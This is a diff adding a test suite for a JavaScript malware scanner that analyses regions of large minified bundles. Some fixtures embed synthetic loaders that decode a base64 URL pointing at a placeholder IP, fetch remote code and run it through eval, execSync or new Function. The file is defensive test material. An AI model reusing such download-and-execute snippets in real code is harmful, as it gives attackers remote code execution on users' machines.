@@ -1,0 +1,141 @@
+/**
+ * Region analysis of large bundles (src/analysis/js/regions.ts): the regions parse at the file's own offsets and
+ * lines, nest as the file does, and give the facts a whole-file analysis gives; anything unexpected gives the
+ * whole-file analysis. Checked on generated bundles and on the real bundles of this project's own dependencies.
+ */
+import assert from 'node:assert/strict';
+import { existsSync, readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import path from 'node:path';
+import { parseJs, type Node } from '../src/analysis/js/parse.js';
+import { parseRegions, REGION_MIN_CHARS } from '../src/analysis/js/regions.js';
+import { JsAnalyzer, type JsFacts } from '../src/analysis/js/facts.js';
+import { analyseFile, passesPrefilter, prefilterHits } from '../src/analysis/source-index.js';
+import { loadSignatures } from '../src/signatures/load.js';
+import { DEFAULT_LIMITS } from '../src/options.js';
+
+const sigs = loadSignatures();
+
+/** Minified filler: many small modules of ordinary code, no token of the prefilter. */
+function filler(n: number, seed = 0, head = (k: number): string => `${k}:(e,t,n)=>`): string {
+  const out: string[] = [];
+  for (let i = 0; i < n; i++) {
+    const k = i + seed;
+    out.push(`${head(k)}{"use strict";n.d(t,{A:()=>r${k}});var o${k}=n(${k + 1}),a${k}={a:1,b:[1,2,3],c:"x/${k}"};function r${k}(e){for(var t=0,n=[];t<e.length;t++)n.push(e[t]*${k % 7}+o${k}.f(a${k}.b[t%3]));return n.length>2?n.join("-"):/[a-z]+\\/${k}/.test(e)?e/2:{v:e}}}`);
+  }
+  return out.join(',');
+}
+
+/** The facts the rules read, as comparable strings. */
+function factKeys(f: JsFacts | undefined): string[] {
+  return [
+    ...(f?.sinks ?? []).map((s) => `sink ${s.kind} ${s.api} ${s.line}:${s.column} import=${s.importTime} taint=${s.arg.taint} ${s.unreachable ?? ''}`),
+    ...(f?.net ?? []).map((n) => `net ${n.api} ${n.line}:${n.column} import=${n.importTime} taint=${n.url.taint} env=${n.sendsEnv}`),
+    ...(f?.envCollect ?? []).map((e) => `env ${e.line}`),
+  ].sort();
+}
+
+function wholeFacts(text: string, file: string): JsFacts {
+  const parsed = parseJs(text, file, DEFAULT_LIMITS.maxParseChars);
+  assert.ok(parsed.ok);
+  return new JsAnalyzer(parsed.program, text, sigs.source, 60_000).run(1);
+}
+
+function regionFacts(text: string): { facts: JsFacts; count: number; chars: number } {
+  const r = parseRegions(text, prefilterHits(text, sigs, false), []);
+  assert.ok(r, 'region analysis applies');
+  return { facts: new JsAnalyzer(r.program, text, sigs.source, 60_000).run(1), count: r.count, chars: r.chars };
+}
+
+describe('region analysis of large bundles', () => {
+  const webpack = (payload: string): string => `(self.webpackChunk=self.webpackChunk||[]).push([[1],{${filler(700)},9001:(e,t,n)=>{${payload}},${filler(700, 5000)}}]);\n`;
+
+  it('a loader in one module of a webpack bundle: same sinks, lines and columns as the whole file', () => {
+    const text = webpack(`const c=require("child_process"),u=atob("aHR0cDovLzE5Mi4wLjIuMTAvcA==");function g(){return fetch(u).then(e=>e.text())}g().then(e=>{eval(e);c.execSync(e)})`);
+    assert.ok(text.length > REGION_MIN_CHARS);
+    const whole = wholeFacts(text, 'dist/chunk.js');
+    const { facts, count, chars } = regionFacts(text);
+    assert.deepEqual(factKeys(facts), factKeys(whole));
+    assert.ok(factKeys(whole).some((k) => k.startsWith('sink eval')) && factKeys(whole).some((k) => k.startsWith('sink child_process')), factKeys(whole).join('\n'));
+    assert.ok(count >= 1 && chars < text.length / 10, `${count} regions, ${chars} characters`);
+  });
+
+  it('a binding in a large function used by a small function inside it (the module scope is kept)', () => {
+    const big = filler(800, 0, (k) => `k${k}:function(e,t,n)`);
+    const text = `module.exports=function(){var vm=require("vm");var pad={${big}};function run(src){return vm.runInNewContext(src,{})}return run}();\n`;
+    assert.ok(text.length > REGION_MIN_CHARS);
+    const whole = wholeFacts(text, 'lib/bundle.js');
+    assert.ok(factKeys(whole).some((k) => k.startsWith('sink vm vm.runInNewContext')), factKeys(whole).join('\n'));
+    assert.deepEqual(factKeys(regionFacts(text).facts), factKeys(whole));
+  });
+
+  it('scope-hoisted top level: a decode and its use in neighbouring statements stay together, at import', () => {
+    const lines = [];
+    for (let i = 0; i < 2500; i++) lines.push(`function h${i}(e){return e.map(function(t){return t+${i}}).filter(Boolean)}var v${i}=h${i}([${i},2,3]);`);
+    lines.splice(1200, 0, 'var q=Buffer.from("aHR0cDovLzE5OC41MS4xMDAuNy94","base64").toString(),w=require("https");w.get(q,function(r){var d="";r.on("data",function(c){d+=c});r.on("end",function(){new Function("require",d)(require)})});');
+    const text = lines.join('\n') + '\n';
+    assert.ok(text.length > REGION_MIN_CHARS);
+    const whole = wholeFacts(text, 'build/app.js');
+    const region = regionFacts(text);
+    assert.deepEqual(factKeys(region.facts), factKeys(whole));
+    assert.ok(factKeys(whole).some((k) => k.startsWith('net ') && k.includes('import=true')), factKeys(whole).join('\n'));
+  });
+
+  it('a statement region inside a method body does not run at import; a return in one region does not kill the next', () => {
+    const methods = [];
+    for (let i = 0; i < 1800; i++) methods.push(`m${i}(e){if(e>${i})return e*2;for(var t=0;t<e;t++)this.x+=t;return this.x}`);
+    methods.splice(900, 0, 'load(u){return fetch(u).then(function(r){return r.text()})}');
+    const text = `class Big{${methods.join('')}}\nif(1){var z=1;eval(z)}\n`;
+    assert.ok(text.length > REGION_MIN_CHARS);
+    const whole = wholeFacts(text, 'dist/big.js');
+    assert.deepEqual(factKeys(regionFacts(text).facts), factKeys(whole));
+    assert.ok(factKeys(whole).some((k) => k.startsWith('net fetch') && k.includes('import=false')), factKeys(whole).join('\n'));
+  });
+
+  it('falls back to the whole file: no tokens, broken brackets, or regions that would cover most of the file', () => {
+    const text = webpack('eval(e)');
+    assert.equal(parseRegions(text, [], []), undefined);
+    assert.equal(parseRegions(text + '})', prefilterHits(text, sigs, false), []), undefined, 'unbalanced');
+    assert.equal(parseRegions('`unterminated' + text, prefilterHits(text, sigs, false), []), undefined, 'does not tokenize');
+    const dense = Array.from({ length: 3000 }, (_, i) => `function f${i}(e){return eval(e+${i})}`).join(';');
+    assert.equal(parseRegions(dense, prefilterHits(dense, sigs, false), []), undefined, 'regions everywhere');
+  });
+
+  it('analyseFile uses regions only for large plain-JavaScript bundles without string-array obfuscation', () => {
+    const text = webpack('eval(atob(e))');
+    assert.ok(analyseFile('dist/chunk.js', text, sigs, DEFAULT_LIMITS, [], true)?.regions, 'a bundle by its path');
+    assert.equal(analyseFile('src/chunk.ts', text, sigs, DEFAULT_LIMITS, [], true)?.regions, undefined, 'TypeScript');
+    assert.equal(analyseFile('dist/small.js', webpack('eval(e)').slice(0, 0) + 'eval(e)', sigs, DEFAULT_LIMITS, [], true)?.regions, undefined, 'small');
+    assert.equal(analyseFile('fonts/a.woff2', text, sigs, DEFAULT_LIMITS, [], true, 'js')?.regions, undefined, 'a font that is JavaScript');
+    const obfuscated = text.replace('eval(atob(e))', Array.from({ length: 30 }, (_, i) => `var _0x${(0xa1b2 + i).toString(16)}=${i};`).join('') + 'eval(atob(e))');
+    assert.equal(analyseFile('dist/chunk.js', obfuscated, sigs, DEFAULT_LIMITS, [], true)?.regions, undefined, 'obfuscator names');
+  });
+
+  it('real bundles of this project’s dependencies: region facts equal whole-file facts', function () {
+    this.timeout(120_000);
+    const require = createRequire(import.meta.url);
+    const candidates = ['@babel/parser/lib/index.js', 'acorn/dist/acorn.js', 'js-yaml/dist/js-yaml.js', 'yaml/browser/dist/index.js', 'semver/index.js', 'simple-git/dist/cjs/index.js', 'parse5/dist/cjs/index.js'];
+    let compared = 0;
+    for (const c of candidates) {
+      let file: string;
+      try {
+        file = require.resolve(c);
+      } catch {
+        continue;
+      }
+      for (const f of [file, path.join(path.dirname(file), 'index.js')]) {
+        if (!existsSync(f)) continue;
+        const text = readFileSync(f, 'utf8');
+        const rel = `node_modules/${c}`;
+        if (text.length < REGION_MIN_CHARS || !passesPrefilter('js', text, sigs)) continue;
+        const r = parseRegions(text, prefilterHits(text, sigs, false), []);
+        if (!r) continue;
+        const facts = new JsAnalyzer(r.program as Node, text, sigs.source, 60_000).run(1);
+        assert.deepEqual(factKeys(facts), factKeys(wholeFacts(text, rel)), rel);
+        compared++;
+        break;
+      }
+    }
+    assert.ok(compared >= 1, 'at least one real bundle compared');
+  });
+});
